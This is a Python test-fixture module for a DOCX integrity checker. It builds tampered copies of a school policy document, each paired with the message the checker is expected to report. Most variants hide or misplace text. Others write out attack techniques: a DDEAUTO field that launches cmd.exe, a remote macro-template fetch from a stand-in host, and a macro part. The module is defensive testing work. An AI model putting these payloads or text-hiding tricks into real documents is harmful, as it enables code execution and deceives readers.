"""Ways to make a DOCX show something other than the words it was built with, each a change of its parts."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable

Parts = dict[str, bytes]
Change = Callable[[Parts], None]
BODY, RELS, TOP, TYPES = "word/document.xml", "word/_rels/document.xml.rels", "_rels/.rels", "[Content_Types].xml"
KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORDS = b" keeps its pupils safe online"


def spoilt(data: bytes, change: Change) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as old:
        parts = {name: old.read(name) for name in old.namelist()}
    change(parts)
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as new:
        for name, part in parts.items():
            new.writestr(name, part)
    return made.getvalue()


def put(parts: Parts, name: str, old: str, new: str) -> None:
    assert old.encode() in parts[name], (name, old)
    parts[name] = parts[name].replace(old.encode(), new.encode(), 1)


def leads_to(parts: Parts, kind: str, target: str, name: str = RELS, outside: bool = False) -> None:
    mode = ' TargetMode="External"' if outside else ""
    one = f'<Relationship Id="rIdX" Type="{KIND}/{kind}" Target="{target}"{mode}/></Relationships>'
    put(parts, name, "</Relationships>", one)


def run_with(parts: Parts, properties: str) -> None:
    """Give the run of a known sentence these properties."""
    start = parts[BODY].index(WORDS)
    begin = parts[BODY].rindex(b"<w:r>", 0, start)
    parts[BODY] = parts[BODY][: begin + 5] + f"<w:rPr>{properties}</w:rPr>".encode() + parts[BODY][begin + 5 :]


def paragraph_with(parts: Parts, properties: str) -> None:
    start = parts[BODY].index(WORDS)
    begin = parts[BODY].rindex(b"</w:pPr>", 0, start)
    parts[BODY] = parts[BODY][:begin] + properties.encode() + parts[BODY][begin:]


def before_the_end(parts: Parts, more: str) -> None:
    place = parts[BODY].rindex(b"<w:sectPr")
    parts[BODY] = parts[BODY][:place] + more.encode() + parts[BODY][place:]


def field(parts: Parts, code: str) -> None:
    pieces = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in (code[:3], code[3:]))
    begin, end = ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>', '<w:r><w:fldChar w:fldCharType="end"/></w:r>')
    before_the_end(parts, f"<w:p>{begin}{pieces}{end}</w:p>")


# --- found -----------------------------------------------------------------------------------------------------------


def another_body(parts: Parts) -> None:
    parts["word/other.xml"] = parts[BODY].replace(WORDS, b" does not keep its pupils safe online")
    put(parts, TOP, 'Target="word/document.xml"', 'Target="word/other.xml"')
    parts["word/_rels/other.xml.rels"] = parts[RELS]


def hidden_words(parts: Parts) -> None:
    run_with(parts, "<w:vanish/>")


def field_of_dde(parts: Parts) -> None:
    field(parts, ' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')


def remote_template(parts: Parts) -> None:
    rels = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
    parts["word/_rels/settings.xml.rels"] = rels.encode()
    leads_to(parts, "attachedTemplate", "https://elsewhere.example/t.dotm", "word/_rels/settings.xml.rels", True)


def other_document_inside(parts: Parts) -> None:
    parts["word/other.html"] = b"<p>Phones are allowed</p>"
    leads_to(parts, "aFChunk", "other.html")
    before_the_end(parts, '<w:altChunk r:id="rIdX"/>')


def macros(parts: Parts) -> None:
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0"
    leads_to(parts, "vbaProject", "vbaProject.bin")
    put(parts, TYPES, "officedocument.wordprocessingml.document.main+xml", "macroEnabled.main+xml")


FOUND: dict[Change, str] = {
    another_body: "1 of 48 blocks differs from the document data.",
    hidden_words: "is hidden",
    field_of_dde: "a field that fetches, computes or runs something (DDEAUTO)",
    remote_template: "(attachedTemplate: https://elsewhere.example/t.dotm)",
    other_document_inside: "another document that is inserted when the file is opened",
    macros: "a part of a type that policygen does not write, word/vbaProject.bin",
}

# --- more ------------------------------------------------------------------------------------------------------------


def two_bodies(parts: Parts) -> None:
    parts["word/other.xml"] = parts[BODY]
    leads_to(parts, "officeDocument", "word/other.xml", TOP)


def body_twice_in_other_letters(parts: Parts) -> None:
    parts["word/Document.xml"] = parts[BODY].replace(WORDS, b" keeps no pupils safe online")


def hidden_by_a_style(parts: Parts) -> None:
    style = (
        '<w:style w:type="character" w:styleId="X"><w:name w:val="X"/><w:rPr><w:vanish/></w:rPr></w:style></w:styles>'
    )
    put(parts, "word/styles.xml", "</w:styles>", style)
    run_with(parts, '<w:rStyle w:val="X"/>')


def white_words(parts: Parts) -> None:
    run_with(parts, '<w:color w:val="FEFEFE"/>')


def black_on_black(parts: Parts) -> None:
    run_with(parts, '<w:color w:val="000000"/><w:shd w:val="clear" w:color="auto" w:fill="000000"/>')


def white_by_the_theme(parts: Parts) -> None:
    run_with(parts, '<w:color w:val="000000" w:themeColor="background1"/>')


def tiny_words(parts: Parts) -> None:
    run_with(parts, '<w:sz w:val="2"/>')


def words_in_one_place(parts: Parts) -> None:
    run_with(parts, '<w:spacing w:val="-200"/>')


def words_in_signs(parts: Parts) -> None:
    run_with(parts, '<w:rFonts w:ascii="Wingdings" w:hAnsi="Wingdings"/>')


def words_off_the_line(parts: Parts) -> None:
    run_with(parts, '<w:position w:val="2000"/>')


def line_of_no_height(parts: Parts) -> None:
    paragraph_with(parts, '<w:spacing w:line="2" w:lineRule="exact"/>')


def indent_off_the_page(parts: Parts) -> None:
    paragraph_with(parts, '<w:ind w:left="20000"/>')


def frame(parts: Parts) -> None:
    paragraph_with(parts, '<w:framePr w:w="1" w:x="20000" w:y="1"/>')


def text_box(parts: Parts) -> None:
    before_the_end(
        parts,
        '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:textbox><w:txbxContent><w:p/>'
        "</w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>",
    )


def picture_from_outside(parts: Parts) -> None:
    leads_to(parts, "image", "https://elsewhere.example/seen.png", outside=True)


def link_elsewhere(parts: Parts) -> None:
    leads_to(parts, "hyperlink", "https://elsewhere.example/", outside=True)


def field_of_a_picture(parts: Parts) -> None:
    field(parts, ' INCLUDEPICTURE "https://elsewhere.example/seen.png" ')


def field_of_words(parts: Parts) -> None:
    field(parts, ' QUOTE "Phones are allowed" ')


def words_bound_to_data(parts: Parts) -> None:
    before_the_end(
        parts,
        '<w:sdt><w:sdtPr><w:dataBinding w:xpath="/x" w:storeItemID="{0}"/></w:sdtPr><w:sdtContent><w:p/>'
        "</w:sdtContent></w:sdt>",
    )


def tracked_change(parts: Parts) -> None:
    before_the_end(parts, '<w:p><w:ins w:id="1" w:author="x"><w:r><w:br/></w:r></w:ins></w:p>')


def comment(parts: Parts) -> None:
    parts["word/comments.xml"] = b"<x/>"
    leads_to(parts, "comments", "comments.xml")


def footnote(parts: Parts) -> None:
    note = (
        "<w:footnotes {0}><w:footnote><w:p><w:r><w:t>not in the holidays</w:t></w:r></w:p></w:footnote></w:footnotes>"
    )
    name = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    parts["word/footnotes.xml"] = note.format(name).encode()
    leads_to(parts, "footnotes", "footnotes.xml")


def words_in_the_header(parts: Parts) -> None:
    put(parts, "word/headerDefault.xml", "<w:t>", "<w:t>REPEALED ")


def words_in_the_numbers(parts: Parts) -> None:
    put(parts, "word/numbering.xml", '<w:lvlText w:val="%1', '<w:lvlText w:val="REPEALED %1')


def words_in_the_contents(parts: Parts) -> None:
    before_the_end(parts, '<w:p><w:pPr><w:pStyle w:val="TOC1"/></w:pPr><w:r><w:t>Phones are allowed</w:t></w:r></w:p>')


def symbols_as_words(parts: Parts) -> None:
    before_the_end(parts, '<w:p><w:r><w:sym w:font="Arial" w:char="004E"/></w:r></w:p>')


def picture_over_the_page(parts: Parts) -> None:
    drawing = "http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"
    before_the_end(parts, f'<w:p><w:r><w:drawing><wp:anchor xmlns:wp="{drawing}"/></w:drawing></w:r></w:p>')


def entity(parts: Parts) -> None:
    put(parts, BODY, "<w:document", '<!DOCTYPE x [<!ENTITY y "z">]><w:document')


MORE: dict[Change, str] = {
    two_bodies: "more than one body",
    body_twice_in_other_letters: "word/Document.xml is in the file twice",
    hidden_by_a_style: "is hidden",
    white_words: "is the same colour as the page",
    black_on_black: "is the same colour as the page",
    white_by_the_theme: "is the same colour as the page",
    tiny_words: "in tiny letters",
    words_in_one_place: "in letters that are squeezed together",
    words_in_signs: "in a symbol font",
    words_off_the_line: "has been moved out of place",
    line_of_no_height: "is cut off",
    indent_off_the_page: "has been moved out of place",
    frame: "has been moved out of place",
    text_box: "a text box, shape or object",
    picture_from_outside: "fetched from outside the file (image: https://elsewhere.example/seen.png)",
    link_elsewhere: "a link to https://elsewhere.example/ that is not in the document data",
    field_of_a_picture: "(INCLUDEPICTURE)",
    field_of_words: "(QUOTE)",
    words_bound_to_data: "words that Word replaces when the file is opened",
    tracked_change: "tracked changes",
    comment: "a part that policygen does not write (comments",
    footnote: "a footnote: “not in the holidays”",
    words_in_the_header: "in a header or footer",
    words_in_the_numbers: "an automatic number with the words “REPEALED”",
    words_in_the_contents: "“Phones are allowed” in the contents list",
    symbols_as_words: "something that policygen does not write (sym)",
    picture_over_the_page: "a text box, shape or object",
    entity: "word/document.xml declares entities",
}
